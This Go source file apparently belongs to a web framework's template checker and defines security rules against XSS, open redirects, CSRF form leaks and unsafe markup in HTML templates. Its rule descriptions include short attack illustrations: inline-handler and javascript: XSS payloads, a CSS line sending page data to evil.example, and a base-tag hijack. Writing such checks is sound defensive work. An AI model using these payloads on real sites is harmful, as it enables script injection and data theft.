package page

import "github.com/merlon-web/merlon/check"

// The rules about where data may stand, and about the HTML around it.
var (
	RuleTagName = rule("MRL-PAGE-030", "action in a tag's name",
		"which element it is must not depend on data",
		"A visitor who completes the name writes script.", `<h{{.Level}}>`, `{{if eq .Level 1}}<h1>…</h1>{{else}}<h2>…</h2>{{end}}`, "golang/go#80163; CWE-79")
	RuleAttributeName = rule("MRL-PAGE-031", "action in an attribute's name",
		"which attribute it is must not depend on data",
		"A visitor who completes the name writes onclick.", `<input {{.Extra}}>`, `<input{{if .On}} checked{{end}}>`, "golang/go#80163; CWE-79")
	RuleUnquoted = rule("MRL-PAGE-032", "action in an unquoted attribute",
		"without quotes a space in the data begins the next attribute, and no data at all takes the next one",
		"x onclick=alert(1) is one value to the author and two attributes to the browser.", `<p title={{.Name}}>`, `<p title="{{.Name}}">`, "CVE-2023-29400; CWE-79")
	RuleAttribute = rule("MRL-PAGE-033", "action in an attribute that is not on the list",
		"data stands only in attributes whose meaning is known to be harmless with any value",
		"The value decides where a frame, a plug-in, a form or a script goes, or what name it has.",
		`<iframe src="{{.Address}}"></iframe>`, "an attribute that takes any value (title, class, alt, value …); a library's own: page.From(files, \"pages\", page.Attr(\"hx-get\", page.Address))",
		"requirements.md 3.3; golang/go#80162; CWE-79")
	RuleHandler = rule("MRL-PAGE-034", "event handler in an attribute",
		"an event handler is script, which the page's policy blocks, and data in it is script of the visitor's",
		"onclick=\"show('{{.Name}}')\" runs whatever a name can spell.", `<button onclick="show()">`, "<button data-show>  and addEventListener in a file under static", "OWASP XSS Prevention; mistakes.md XSS-4; CWE-79")
	RuleStyle = rule("MRL-PAGE-035", "style in an attribute, or an action in a style",
		"style attributes are blocked by the page's policy, and data in a style sheet can load and send",
		"background:url(//evil.example/?…) sends what a selector finds on the page.", `<p style="color:{{.Colour}}">`, `<p class="{{.Kind}}">`, "CVE-2023-24539; mistakes.md XSS-4")
	RuleScript = rule("MRL-PAGE-036", "action in a script",
		"no escaping of script survived its second decade: data goes into a JSON data block",
		"A backtick, a line separator, a comment or a regular expression ends the string that data stood in.",
		`<script>var user = {{.User}};</script>`, `<script type="application/json" id="user">{{data .User}}</script>`,
		"CVE-2023-24538, CVE-2023-39318, CVE-2026-32289, CVE-2026-56858; mistakes.md XSS-9")
	RuleSrcdoc = rule("MRL-PAGE-037", "srcdoc", "it is a whole document in an attribute, which is unescaped once more than it was escaped",
		"&lt;script&gt; in the value is <script> in the frame.", `<iframe srcdoc="{{.Text}}">`, "a page of its own and a link to it", "golang/go#80154; CWE-79")
	RuleBase = rule("MRL-PAGE-038", "base", "it moves every relative address of the page, scripts and forms too",
		"<base href=//evil.example> loads the page's scripts from there.", `<base href="/app/">`, "addresses that begin with /", "requirements.md 3.4: base-uri 'none'")
	RuleMeta = rule("MRL-PAGE-039", "meta that steers the browser", "http-equiv, a charset and a policy of one's own change how the rest of the page is read",
		"<meta http-equiv=refresh content=\"0;url=…\"> leads every visitor away.", `<meta http-equiv="refresh" content="{{.Next}}">`, `<meta name="description" content="{{.Summary}}">`, "CVE-2026-27142, CVE-2026-39823; golang/go PR 78523")
	RuleSVG = rule("MRL-PAGE-040", "SVG or MathML that is not on the list",
		"inside svg and math other rules of reading hold, and some elements of theirs set attributes of others",
		"<animate attributeName=href to=javascript:…> makes a link of it.", `<svg><use href="{{.Icon}}"/></svg>`, `{{if .On}}<svg><use href="/static/icons.svg#on"/></svg>{{end}}`, "golang/go#80158; requirements.md 3.3")
	RuleVendor = rule("MRL-PAGE-041", "action in an attribute of a library",
		"to htmx, Alpine, Vue and the like such attributes are code or addresses, which only you know",
		"hx-get, x-text, @click and :href run or fetch what they are given.", `<p hx-get="{{.Next}}">`, `page.From(files, "pages", page.Attr("hx-get", page.Address))`, "requirements.md 3.3; htmx security")
	RuleAddress = rule("MRL-PAGE-042", "address that could lead anywhere",
		"scheme and host are constant; data is a whole address, one whole segment after a constant \"/\", the value after a constant name=, or what follows #",
		"javascript: in a link is script; half a host in data is every host.", `<a href="https://{{.Host}}/x">`, `<a href="/notes/{{.ID}}?from={{.From}}">`, "WHATWG URL; requirements.md 4; CWE-79, CWE-601")
	RuleComment = rule("MRL-PAGE-043", "action in an HTML comment", "comments are not sent, so the action would do nothing",
		"--> in the data would end the comment.", `<!-- {{.Note}} -->`, `{{/* a note for developers */}}`, "html/template drops it silently")
	RuleDoctype = rule("MRL-PAGE-044", "doctype", "a page begins with <!doctype html>, and nothing else is a doctype",
		"In quirks mode browsers read pages by other rules.", `<!doctype {{.Kind}}>`, `<!doctype html>`, "WHATWG HTML 13.1.1")
	RuleElement = rule("MRL-PAGE-045", "element that pages do not have",
		"what it holds is read in a way of its own, or the page's policy blocks it",
		"Markup that one reader takes for text and another for elements (mutation XSS) is how filters are passed.", `<xmp>{{.Code}}</xmp>`, `<pre><code>{{.Code}}</code></pre>`, "WHATWG HTML 16.2; requirements.md 3.3")
	RuleBranches = rule("MRL-PAGE-046", "branches that end in different places",
		"what follows would be read differently from case to case, so no one escaping is right for it",
		"A quote that is only sometimes open lets data be an attribute.", `<a {{if .On}}title="{{else}}href="{{end}}{{.X}}">`, `<a{{if .On}} title="{{.X}}"{{end}}>`, "html/template: ErrBranchEnd, ErrRangeLoopReentry")
	RuleEnd = rule("MRL-PAGE-047", "page that ends in the middle", "a tag, an attribute or an element is still open at the end",
		"What the browser shows then depends on what it was sent next.", `<p title="{{.Name}}`, `<p title="{{.Name}}">…</p>`, "html/template: ErrEndContext")
	RuleMarkup = rule("MRL-PAGE-048", "markup that readers understand differently",
		"browsers repair it, each step by a rule of its own", "A repaired page has elements that its author never wrote.", `<p title="a"class="b">`, `<p title="a" class="b">`, "WHATWG HTML 13.2.2 parse errors")
	RuleNesting = rule("MRL-PAGE-049", "elements that are not well nested",
		"browsers move, close or repeat such elements, and what they make of it can depend on the data",
		"An element that is repeated or moved takes data into a place that it was not escaped for.", `<p><b>{{.Name}}</p>`, `<p><b>{{.Name}}</b></p>`, "WHATWG HTML 13.2.6")
	RuleDuplicate = rule("MRL-PAGE-050", "attribute given twice", "browsers keep the first and drop the second",
		"What is judged must be what counts.", `<a href="/a" href="/b">`, `<a href="/a">`, "WHATWG HTML 13.2.5.33")
	RuleFormOrigin = confidential("MRL-PAGE-051", "form that is sent to another origin",
		"what is typed into it, its token included, would leave this site",
		"The token of a form is good for a post in the visitor's name.", `<form method="post" action="https://pay.example/">`, "post to a route of this site, which redirects", "mistakes.md CSRF-2; CSP form-action")
	RuleForm = rule("MRL-PAGE-052", "form that is not what it seems", "where and how a form is sent is constant and said once",
		"formaction, formmethod and a method from data send a form, and its token, another way than the page shows.", `<button formmethod="get">`, "a form of its own for each route", "WHATWG HTML 4.10.18.6; mistakes.md CSRF-2")
	RulePassword = confidential("MRL-PAGE-053", "password in an address or shown again",
		"a GET form puts its fields into the address, which logs, histories and referrers keep; a shown password is in every cache",
		"Who reads the log signs in.", `<form method="get"><input type="password" name="p">`, `<form method="post" action="/sign-in"><input type="password" name="p">`, "OWASP ASVS 5.0 14.2.1; mistakes.md FORM-2")
	RuleForeign = rule("MRL-PAGE-054", "script or style of another host", "whoever owns that host, or takes it over, runs code in your pages",
		"A library's CDN that was sold served malware to 100,000 sites (polyfill.io, 2024).", `<script src="https://cdn.example/x.js">`, "put the file under static; a script may stay there with integrity=\"sha384-…\"", "mistakes.md XSS-6; W3C SRI")
	RuleStatic = available("MRL-PAGE-055", "static file that is not there", "its address is replaced by one with its fingerprint when the site starts", halfPage, `<link rel="stylesheet" href="/static/stie.css">`, `<link rel="stylesheet" href="/static/site.css">`, "mistakes.md PAGE-1")
	RuleLang   = available("MRL-PAGE-056", "html without lang", "readers that speak need to know the language", "none; it shuts out visitors who listen to pages", `<html>`, `<html lang="en">`, "WCAG 2.2 3.1.1")
	RuleTitle  = available("MRL-PAGE-057", "page without title", "a title is what tabs, histories and readers that speak call the page", "none; it shuts out visitors who listen to pages", `<head></head>`, `<head><title>Notes</title></head>`, "WCAG 2.2 2.4.2")
	RuleAttr   = rule("MRL-PAGE-058", "attribute that cannot be declared", "page.Attr opens attributes that HTML does not know, and weakens none that it does",
		"page.Attr(\"onclick\", page.Text) would be script from data.", `page.Attr("onclick", page.Text)`, `page.Attr("data-name", page.Text)`, "requirements.md 3.3")
	RuleRefused = rule("MRL-PAGE-059", "address from data refused", "the value leads elsewhere than its place allows; \"#refused\" was printed instead",
		"A profile whose web site is javascript:… runs script in the visits of others.", `javascript:alert(1)`, "check the value when it is typed: a form field of type url", "requirements.md 4; mistakes.md XSS-5")
	RuleRaw = rule("MRL-PAGE-060", "raw HTML in a place that is none for it", "raw HTML may only stand where elements may: between the tags of the body",
		"The same bytes mean another thing in a title, an attribute or a table's row.", `<p title="{{.Text}}">  with Text page.HTML`, `<div>{{.Text}}</div>`, "requirements.md 1: raw HTML escape hatch")
)

// Rules returns every rule of the room.
func Rules() []check.Rule {
	return []check.Rule{
		RuleParse, RuleFile, RuleField, RuleUnexported, RuleType, RuleSafeType, RuleSecret, RuleArguments, RuleComparison,
		RuleRange, RuleTemplate, RuleRedefined, RuleFunction, RuleEscaper, RulePrint, RuleNode, RuleText, RuleFields, RuleData,
		RuleSealed, RuleTokens, RuleToken, RuleLarge, RuleSource, RuleTagName, RuleAttributeName, RuleUnquoted, RuleAttribute, RuleHandler,
		RuleStyle, RuleScript, RuleSrcdoc, RuleBase, RuleMeta, RuleSVG, RuleVendor, RuleAddress, RuleComment, RuleDoctype,
		RuleElement, RuleBranches, RuleEnd, RuleMarkup, RuleNesting, RuleDuplicate, RuleFormOrigin, RuleForm, RulePassword,
		RuleForeign, RuleStatic, RuleLang, RuleTitle, RuleAttr, RuleRefused, RuleRaw,
	}
}
